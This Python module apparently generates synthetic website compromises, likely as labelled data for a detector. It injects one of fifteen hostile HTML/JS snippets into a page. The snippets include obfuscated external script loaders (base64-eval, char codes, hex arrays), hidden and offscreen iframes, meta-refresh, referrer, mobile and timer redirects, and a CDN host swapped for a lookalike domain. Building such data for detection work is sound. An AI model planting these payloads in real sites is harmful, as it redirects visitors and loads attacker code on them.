"""``script``: one injected external loader, hidden iframe, meta refresh or JS redirect to a host the
site never used (often a lookalike of a Chinese analytics or CDN vendor). Nothing else changes."""

# ruff: noqa: E501 - page markup reads best one element a line

from __future__ import annotations

import base64
import random
import re

from ..data.hosts import FRESH, LOOKALIKES, REDIRECT_TARGETS
from .base import BODY, BODY_END, HEAD_END, Attack, after, before

SCRIPT_SRC = re.compile(
    r'<script[^>]*\ssrc="(https?:)?//(cdn\.(?:bootcdn\.net|staticfile\.org))/[^"]*"', re.I
)
STYLES = (
    "head-async",
    "create-element",
    "document-write",
    "base64-eval",
    "char-codes",
    "hidden-iframe",
    "offscreen-iframe",
    "meta-refresh",
    "referrer-redirect",
    "timer-redirect",
    "mobile-redirect",
    "swapped-library",
    "footer-defer",
    "hex-array",
    "top-location",
)


def _host(rng: random.Random) -> str:
    return rng.choice(LOOKALIKES) if rng.random() < 0.65 else rng.choice(FRESH)


def script(page: str, rng: random.Random, style: str) -> Attack:
    host = _host(rng)
    path = rng.choice(("/hm.js?", "/z_stat.php?id=", "/js/jquery.min.js?v=", "/tj.js?", "/static/c.js?t="))
    src = f"https://{host}{path}{rng.randrange(10**7, 10**8)}"
    target = rng.choice(REDIRECT_TARGETS)
    where = "head"
    if style == "head-async":
        out = before(HEAD_END, page, f'<script async src="{src}"></script>')
    elif style == "create-element":
        code = (
            f'<script>(function(){{var s=document.createElement("script");s.src="{src}";'
            'var x=document.getElementsByTagName("script")[0];x.parentNode.insertBefore(s,x);})();</script>'
        )
        out, where = before(BODY_END, page, code), "body-end"
    elif style == "document-write":
        out, where = (
            after(BODY, page, f"<script>document.write('<scr'+'ipt src=\"{src}\"></scr'+'ipt>');</script>"),
            "body-top",
        )
    elif style == "base64-eval":
        payload = base64.b64encode(
            f'var s=document.createElement("script");s.src="{src}";document.head.appendChild(s);'.encode()
        ).decode()
        out = before(HEAD_END, page, f'<script>eval(atob("{payload}"));</script>')
    elif style == "char-codes":
        codes = ",".join(str(ord(c)) for c in f'<script src="{src}"></script>')
        out, where = (
            before(BODY_END, page, f"<script>document.write(String.fromCharCode({codes}));</script>"),
            "body-end",
        )
    elif style == "hidden-iframe":
        frame = f'<iframe src="https://{host}/p.html" width="0" height="0" frameborder="0" style="display:none"></iframe>'
        out, where = before(BODY_END, page, frame), "body-end"
    elif style == "offscreen-iframe":
        frame = f'<div style="position:absolute;left:-4000px;top:-4000px"><iframe src="https://{host}/c/{rng.randrange(999)}.htm" width="500" height="400"></iframe></div>'
        out, where = after(BODY, page, frame), "body-top"
    elif style == "meta-refresh":
        out = before(
            HEAD_END, page, f'<meta http-equiv="refresh" content="{rng.choice((3, 5, 8, 12))};url={target}">'
        )
    elif style == "referrer-redirect":
        code = (
            "<script>var r=document.referrer;if(/baidu|sogou|so\\.com|sm\\.cn|toutiao/i.test(r)){"
            f'window.location.href="{target}";}}</script>'
        )
        out = before(HEAD_END, page, code)
    elif style == "timer-redirect":
        out, where = (
            before(
                BODY_END,
                page,
                f'<script>setTimeout(function(){{location.replace("{target}")}},{rng.choice((4000, 7000, 15000))});</script>',
            ),
            "body-end",
        )
    elif style == "mobile-redirect":
        code = (
            "<script>if(/Android|iPhone|iPad|Mobile|MicroMessenger/i.test(navigator.userAgent)){"
            f'document.location="{target}";}}</script>'
        )
        out = before(HEAD_END, page, code)
    elif style == "swapped-library":
        match = SCRIPT_SRC.search(page)
        if match is None:
            out = before(
                HEAD_END,
                page,
                f'<script src="https://{rng.choice(LOOKALIKES[6:10])}/jquery/1.12.4/jquery.min.js"></script>',
            )
        else:
            fake = {"cdn.bootcdn.net": "cdn.bootcdn.com.cn", "cdn.staticfile.org": "cdn.staticfi1e.org"}[
                match.group(2)
            ]
            out = page[: match.start(2)] + fake + page[match.end(2) :]
            where = "swapped"
    elif style == "footer-defer":
        out, where = (
            before(BODY_END, page, f'<script defer src="{src}" charset="gb2312"></script>'),
            "body-end",
        )
    elif style == "hex-array":
        hexed = "".join(f"\\x{ord(c):02x}" for c in src)
        code = (
            f'<script>var _0x5a1c=["{hexed}","createElement","script","appendChild"];'
            "var _0x2f=document[_0x5a1c[1]](_0x5a1c[2]);_0x2f.src=_0x5a1c[0];document.body[_0x5a1c[3]](_0x2f);</script>"
        )
        out, where = before(BODY_END, page, code), "body-end"
    else:  # top-location
        out = before(
            HEAD_END, page, f'<script>if(window.top===window.self){{window.top.location="{target}"}}</script>'
        )
    return Attack(out, info={"style": style, "host": host, "where": where})
